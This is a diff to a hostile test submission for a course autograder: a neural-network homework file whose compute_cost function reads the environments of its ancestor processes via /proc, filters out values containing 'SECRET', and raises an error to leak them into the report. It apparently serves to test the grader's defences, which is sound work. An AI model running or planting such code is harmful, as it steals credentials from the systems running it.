@@ -1,5 +1,5 @@
 # HOSTILE TEST SUBMISSION env_leak (generated from tests/hostile/attacks.yaml)
-# compute_cost raises an error carrying its environment and its parent's (/proc/PPID/environ), hoping the report shows them
+# compute_cost raises an error carrying its environment and its ancestors' (/proc/PID/environ up the tree), hoping the report shows the grader's
 # Planar data classification with one hidden layer: a correct submission, written the way the
 # course's notebook writes it. Every attack submission is this file with one part replaced.
 import numpy as np
@@ -40,11 +40,18 @@ def forward_propagation(X, parameters):
 def compute_cost(A2, Y):
     import os
     leak = repr(dict(os.environ))
-    try:
-        with open("/proc/%d/environ" % os.getppid(), "rb") as environ:
-            leak += environ.read().decode("latin-1")
-    except OSError:
-        pass
+    pid = os.getppid()
+    for _ in range(6):
+        if pid <= 1:
+            break
+        try:
+            with open("/proc/%d/environ" % pid, "rb") as environ:
+                found = [v for v in environ.read().split(b"\0") if b"SECRET" in v]
+            leak = b" ".join(found).decode("latin-1") + " " + leak
+            with open("/proc/%d/stat" % pid) as stat:
+                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
+        except (OSError, ValueError, IndexError):
+            break
     raise RuntimeError("LEAK " + leak)
 
 
